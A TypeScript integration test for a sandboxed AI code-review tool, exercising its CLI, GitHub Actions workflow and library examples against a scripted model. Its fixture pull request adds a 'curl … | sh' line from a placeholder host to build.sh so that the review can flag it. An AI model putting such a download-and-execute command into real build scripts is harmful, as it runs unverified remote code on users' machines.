// Every recipe in examples/ is exercised against the scripted model: the review prompt and
// schema through the CLI, the GitHub Actions review workflow through the action's own steps with
// the workflow's inputs, and the library example through bindAgent(). (examples/workflow carries
// its own test.)
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse } from "yaml";
import type { ScriptedModelServer } from "../../src/scripted-model/scripted-model-server.js";
import { runAction } from "../support/github-action.js";
import {
  containersOfRuns,
  dockerAvailable,
  makeWorkspace,
  modelsFor,
  runProcess,
  startModel,
} from "../support/harness.js";

const repoRoot = path.resolve(import.meta.dirname, "../..");
const cli = path.join(repoRoot, "dist/cli/main.js");
const reviewResult = {
  verdict: "request-changes",
  summary: "The change adds a network call to the build script.",
  risks: [{ file: "build.sh", severity: "high", note: "curl | sh from an unpinned URL" }],
};

/** A git checkout with one commit on top of another, like a pull request. */
function pullRequestCheckout(): string {
  const dir = makeWorkspace({ "build.sh": "echo build\n" }, "sandbox-run-pr-");
  const git = (...args: string[]) => execFileSync("git", args, { cwd: dir, stdio: "ignore" });
  git("init", "-q");
  git("-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "--allow-empty", "-m", "base");
  fs.writeFileSync(path.join(dir, "build.sh"), "echo build\ncurl -s https://example.invalid/x | sh\n");
  git("add", ".");
  git("-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "-m", "change");
  fs.cpSync(path.join(repoRoot, "examples"), path.join(dir, "examples"), { recursive: true });
  return dir;
}

describe.skipIf(!dockerAvailable())("examples", () => {
  let server: ScriptedModelServer;
  let modelsFile: string;

  beforeAll(async () => {
    server = await startModel({
      review: [
        { toolCalls: [{ name: "bash", arguments: { command: "git log --oneline -5; git diff HEAD~1 --stat" } }] },
        { toolCalls: [{ name: "sandbox_run_final_result", arguments: reviewResult }] },
      ],
    });
    modelsFile = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "sandbox-run-models-")), "models.json");
    fs.writeFileSync(modelsFile, JSON.stringify(modelsFor(server, ["review"])));
  });
  afterAll(async () => {
    await server?.close();
  });

  it("review-pr: the prompt and schema give a validated review through the CLI, with a record", async () => {
    const checkout = pullRequestCheckout();
    const record = path.join(checkout, "..", `${path.basename(checkout)}-record`);
    const result = await runProcess(
      process.execPath,
      [
        cli,
        "--sandbox",
        "read-only",
        "--schema",
        "examples/review-pr/review.schema.json",
        "--models",
        modelsFile,
        "--model",
        "scripted/review",
        "--record",
        record,
        "--json",
        fs.readFileSync(path.join(checkout, "examples/review-pr/prompt.md"), "utf8"),
      ],
      { cwd: checkout },
    );
    expect(result.stderr).not.toMatch(/unexpected error/);
    expect(result.status).toBe(0);
    const envelope = JSON.parse(result.stdout);
    expect(envelope).toMatchObject({ ok: true, result: reviewResult, policy: "read-only", exitCode: 0 });
    // The agent really looked at the pull request: its git output reached the model.
    const toolMessage = server.requests.at(-1)!.body.messages.find((m) => m.role === "tool");
    expect(JSON.stringify(toolMessage?.content)).toContain("build.sh");
    expect(fs.readdirSync(record).sort()).toEqual([
      "SHA256SUMS",
      "changes.patch",
      "events.jsonl",
      "exchanges.jsonl",
      "meta.json",
      "plan.json",
      "policy.json",
      "prompt.txt",
      "replay.json",
      "result.json",
      "schema.json",
    ]);
    expect(fs.readFileSync(path.join(record, "changes.patch"), "utf8")).toBe("");
  });

  it("github-actions: the review workflow takes its configuration from the base branch, and runs as written", async () => {
    interface WorkflowStep {
      id?: string;
      uses?: string;
      with?: Record<string, string>;
    }
    const workflow = parse(fs.readFileSync(path.join(repoRoot, "examples/github-actions/sandbox-review.yml"), "utf8"));
    const steps = workflow.jobs.review.steps as WorkflowStep[];
    const checkouts = steps.filter((s) => s.uses?.startsWith("actions/checkout@"));
    const pr = checkouts.find((s) => s.with?.path === "pr")!;
    const base = checkouts.find((s) => s.with?.path === "trusted")!;
    expect(pr.with).toMatchObject({ "persist-credentials": false });
    expect(base.with).toMatchObject({ ref: "${{ github.event.pull_request.base.sha }}", "persist-credentials": false });
    const review = steps.find((s) => s.id === "review")!;
    // The action itself comes from a pinned ref, never from the pull request's checkout.
    expect(review.uses).toMatch(/^[\w-]+\/sandbox-run@/);
    const inputs = review.with!;
    expect(inputs["working-directory"]).toBe("pr");
    for (const name of ["prompt-file", "schema", "policy", "models"]) {
      if (inputs[name] !== undefined) expect(inputs[name], name).toMatch(/^trusted\//);
    }

    // The job's folders: the pull request in pr/, the base branch's examples in trusted/.
    const job = fs.mkdtempSync(path.join(os.tmpdir(), "sandbox-run-job-"));
    fs.renameSync(pullRequestCheckout(), path.join(job, "pr"));
    fs.cpSync(path.join(repoRoot, "examples"), path.join(job, "trusted/examples"), { recursive: true });
    const { outputs, code, log } = await runAction({ ...inputs, model: "scripted/review", models: modelsFile }, job);
    expect(code, log).toBe(0);
    expect(JSON.parse(outputs.run!.result!)).toEqual(reviewResult);
    const envelope = JSON.parse(fs.readFileSync(outputs.run!.envelope!, "utf8"));
    expect(envelope.policy).toBe("read-only");
    expect(fs.existsSync(path.join(outputs.run!["record-dir"]!, "exchanges.jsonl"))).toBe(true);
    expect(await containersOfRuns([envelope.runId])).toEqual([]);

    // The replay workflow holds no secret and runs the workflow example's own replay test.
    const tests = parse(
      fs.readFileSync(path.join(repoRoot, "examples/github-actions/agent-workflow-tests.yml"), "utf8"),
    );
    const text = JSON.stringify(tests);
    expect(text).not.toContain("secrets.");
    expect(text).toContain("vitest run --project integration examples/workflow");
  });

  it("library: the workflow step gets a validated review through bindAgent()", async () => {
    const { reviewCheckout, sandboxedAgent } = await import("../../examples/library/review-workflow.js");
    const checkout = pullRequestCheckout();
    const review = await reviewCheckout(sandboxedAgent("scripted/review", modelsFor(server, ["review"])), checkout);
    expect(review).toEqual(reviewResult);
  });
});
